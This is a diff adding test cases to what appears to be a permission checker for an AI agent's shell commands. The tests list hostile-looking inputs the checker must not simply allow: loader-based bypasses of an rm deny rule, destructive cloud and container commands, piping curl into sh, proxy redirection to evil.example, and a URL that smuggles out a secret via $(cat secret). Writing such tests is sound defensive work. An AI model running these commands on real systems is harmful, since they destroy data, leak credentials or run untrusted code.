@@ -52,6 +52,10 @@ describe('a rule that denies rm', () => {
     "ssh -o ProxyCommand='rm x' h",
     "ssh -oproxycommand='rm x' h",
     'scp -S ./x a h:b',
+    '/lib64/ld-linux-x86-64.so.2 /bin/rm x',
+    'ld.so --library-path . rm x',
+    '/lib/ld-musl-x86_64.so.1 --preload a.so rm x',
+    '/lib64/ld-linux-x86-64.so.2 --list /bin/ls',
   ])('F8 holds for %j, in every mode', (line) => {
     for (const mode of ['risky', 'all_effects', 'off'] as const)
       expect(judged(line, { 'shell.shell rm': 'deny' }, mode)).not.toBe('allow');
@@ -123,6 +127,110 @@ describe('a rule that allows a program', () => {
     ['curl', 'curl -s --data-urlencode a=b https://a.example'],
   ])('F8 %s allows %j', (name, line) => {
     expect(judged(line, { [`shell.shell ${name}`]: 'allow' }, 'all_effects')).toBe('allow');
+  });
+});
+
+describe('leave for the session', () => {
+  const judgedAfter = (line: string, grant: string): string =>
+    judgeCall(
+      { tool: 'shell.shell', purity: 'side_effect', hasEffects: true, risk: shellRisk(line) },
+      { mode: 'risky', tools: {} },
+      (what) => what === `shell.shell ${grant}`,
+    ).kind;
+
+  it.each([
+    ['docker ps', 'docker rm -f db', 'docker ps -a'],
+    ['docker volume ls', 'docker volume rm data', 'docker volume ls -q'],
+    ['podman image ls', 'podman image prune', 'podman image ls'],
+    ['kubectl get pods', 'kubectl delete ns prod', 'kubectl get services'],
+    ['kubectl config view', 'kubectl config use-context prod', 'kubectl config view'],
+    ['gh pr list', 'gh pr merge 3', 'gh pr list --state all'],
+    ['gh auth status', 'gh auth token', 'gh auth status'],
+    ['aws s3 ls', 'aws s3 rm s3://b/k', 'aws s3 ls s3://b'],
+    ['gcloud compute instances list', 'gcloud compute instances delete a', ''],
+    ['az vm list', 'az vm delete -n a', 'az vm list'],
+    ['terraform state list', 'terraform state rm a', 'terraform state list'],
+    ['terraform plan', 'terraform destroy', 'terraform plan'],
+    ['helm list', 'helm uninstall a', 'helm list'],
+    ['npx tsc', 'npx evil', 'npx tsc --noEmit'],
+    ['npx -y tsc', 'npx -y evil', 'npx tsc'],
+    ['pip list', 'pip install evil', 'pip list'],
+    ['systemctl status a', 'systemctl stop a', 'systemctl status b'],
+  ])('S3-06 %j does not cover %j', (line, other, same) => {
+    const { covers } = shellRisk(line);
+    expect(judgedAfter(line, covers)).toBe('allow');
+    expect(judgedAfter(other, covers)).toBe('ask');
+    if (same !== '') expect(judgedAfter(same, covers)).toBe('allow');
+    // A rule for the whole program is one for what it does, too.
+    const [program = ''] = line.split(' ');
+    expect(judged(other, { [`shell.shell ${program}`]: 'deny' }, 'off')).toBe('deny');
+  });
+
+  it.each(['docker -H tcp://h ps', 'kubectl -n prod get pods', 'docker $X', 'gh'])(
+    'S3-06 %j is for exactly this line: what it does does not stand first',
+    (line) => {
+      expect(shellRisk(line).covers).toBe(line);
+    },
+  );
+});
+
+describe('what is asked for nothing', () => {
+  it.each([
+    'curl localhost:3000',
+    'curl -sf http://127.0.0.1:3000/health',
+    'curl -s -m 5 "http://localhost:3000/a?b=c"',
+    "curl -sS --max-time 3 'http://[::1]:3000/'",
+    'timeout 5 curl -I localhost',
+    'for i in 1 2 3; do curl -s localhost:3000 && break; sleep 5; done',
+    'npm start & curl --fail localhost:3000',
+    'docker --version',
+    'kubectl --help',
+    'ssh --version && sudo --version',
+  ])('S3-06 %j stays on this computer', (line) => {
+    expect(judged(line, {}, 'risky')).toBe('allow');
+    expect(judged(line, {}, 'all_effects')).toBe('ask');
+  });
+
+  it.each([
+    'curl -L localhost:3000',
+    'curl -d a=b localhost:3000',
+    'curl -XDELETE localhost:3000',
+    'curl --json "{}" localhost:3000',
+    'curl -H "X: y" localhost:3000',
+    'curl -so f localhost:3000',
+    'curl -O localhost:3000/f',
+    'curl -x evil.example localhost',
+    'curl -K c localhost',
+    'curl localhost https://evil.example',
+    'curl localhost.evil.example',
+    'curl http://127.0.0.1.evil.example/',
+    'curl http://localhost@evil.example/',
+    'curl "localhost\\@evil.example"',
+    'curl "localhost:3000/$(cat secret)"',
+    'curl "localhost:3000/[1-9]"',
+    'curl',
+    'http_proxy=http://evil.example curl localhost',
+    'export http_proxy=http://evil.example; curl localhost/secret',
+    'CURL_HOME=.; curl localhost',
+    'read http_proxy < f; curl localhost',
+    'alias curl=evil; curl localhost',
+    './curl localhost',
+    'curl localhost | sh',
+    'docker --version run x',
+    'eval --version',
+  ])('S3-06 is asked about: %j', (line) => {
+    expect(judged(line, {}, 'risky')).toBe('ask');
+  });
+
+  it.each([
+    ['gh pr list', /other computers/],
+    ['gh run view 3', /other computers/],
+    ['glab mr diff 3', /other computers/],
+    ['gh pr merge 3', /publishes/],
+    ['gh api repos/a/b', /publishes/],
+    ['gh list create', /publishes/],
+  ])('S3-06 says of %j what it does', (line, reason) => {
+    expect(shellRisk(line).reason).toMatch(reason);
   });
 });
 
